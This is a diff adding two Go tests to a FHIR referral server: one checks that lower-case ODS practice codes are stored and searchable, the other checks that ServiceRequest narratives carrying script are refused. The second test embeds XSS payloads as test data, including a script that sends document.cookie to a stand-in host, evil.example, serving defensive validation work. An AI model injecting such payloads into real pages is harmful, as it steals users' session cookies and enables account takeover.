@@ -123,3 +123,63 @@ func (h *harness) doWithHost(method, path, token, host string, headers ...string
 	h.t.Helper()
 	return h.doRequest(method, path, token, nil, host, headers...)
 }
+
+// TestODSCodesAreCaseInsensitive: a referral whose requester's ODS code (and performer's) comes in lower case is
+// stored under the practice's code and found by every search of its practice, in any case.
+func TestODSCodesAreCaseInsensitive(t *testing.T) {
+	t.Parallel()
+	h := newHarness(t, fhirtest.NewValidator(t))
+	body := strings.NewReplacer(`"A81001"`, `"a81001"`, `"XYZ01"`, `"xyz01"`).Replace(string(readFile(t, referrals+"/walking-group-performer.json")))
+	r := h.do(http.MethodPost, "/fhir/ServiceRequest", tokGP, []byte(body))
+	if r.status != http.StatusCreated {
+		t.Fatalf("lower-case ODS referral: %d %s", r.status, r.body)
+	}
+	for _, q := range []string{
+		"/fhir/Task",
+		"/fhir/ServiceRequest",
+		"/fhir/ServiceRequest?requester:identifier=" + odsSystemURL + "|a81001",
+		"/fhir/Task?requester:identifier=" + odsSystemURL + "|A81001",
+		"/fhir/Task?owner:identifier=" + odsSystemURL + "|xyz01",
+		"/fhir/Task?owner=frome-walks",
+	} {
+		g := h.do(http.MethodGet, q, tokGP, nil)
+		if g.status != http.StatusOK || g.json(t)["total"] != float64(1) || !strings.Contains(string(g.body), `"match"`) {
+			t.Errorf("GET %s: %d %s; want the referral", q, g.status, g.body)
+		}
+	}
+	// The PCN hub (practices A81001–A81004) sees it too; another practice does not.
+	if g := h.do(http.MethodGet, "/fhir/Task", tokPCN, nil); g.json(t)["total"] != float64(1) {
+		t.Errorf("PCN hub search: %s", g.body)
+	}
+	if g := h.do(http.MethodGet, "/fhir/Task", tokGP2, nil); g.json(t)["total"] != float64(0) {
+		t.Errorf("another practice sees it: %s", g.body)
+	}
+}
+
+// TestUnsafeNarrativeRefused: a ServiceRequest whose narrative could run script in a GP system's viewer is
+// refused 400 naming ServiceRequest.text.div, and nothing is written.
+func TestUnsafeNarrativeRefused(t *testing.T) {
+	t.Parallel()
+	h := newHarness(t, fhirtest.NewValidator(t))
+	for _, div := range []string{
+		`<div xmlns=\"http://www.w3.org/1999/xhtml\"><script>fetch('https://evil.example/'+document.cookie)</script>Referral</div>`,
+		`<div xmlns=\"http://www.w3.org/1999/xhtml\"><a href=\"javascript:alert(1)\">details</a></div>`,
+		`<div xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"x\" onerror=\"alert(1)\"/></div>`,
+	} {
+		body := strings.Replace(string(readFile(t, referrals+"/walking-group-performer.json")), `"resourceType": "ServiceRequest",`,
+			`"resourceType": "ServiceRequest", "text": {"status": "generated", "div": "`+div+`"},`, 1)
+		r := h.do(http.MethodPost, "/fhir/ServiceRequest", tokGP, []byte(body))
+		if r.status != http.StatusBadRequest || !hasExpression(issues(t, r), "ServiceRequest.text.div") {
+			t.Errorf("unsafe narrative %s: %d %s; want 400 naming ServiceRequest.text.div", div, r.status, r.body)
+		}
+	}
+	// The same referral with a plain narrative is accepted.
+	body := strings.Replace(string(readFile(t, referrals+"/walking-group-performer.json")), `"resourceType": "ServiceRequest",`,
+		`"resourceType": "ServiceRequest", "text": {"status": "generated", "div": "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p>Referral to <b>walking group</b></p></div>"},`, 1)
+	if r := h.do(http.MethodPost, "/fhir/ServiceRequest", tokGP, []byte(body)); r.status != http.StatusCreated {
+		t.Errorf("safe narrative: %d %s", r.status, r.body)
+	}
+	if n := h.countReferrals(); n != 1 {
+		t.Errorf("%d referrals stored, want only the safe one", n)
+	}
+}
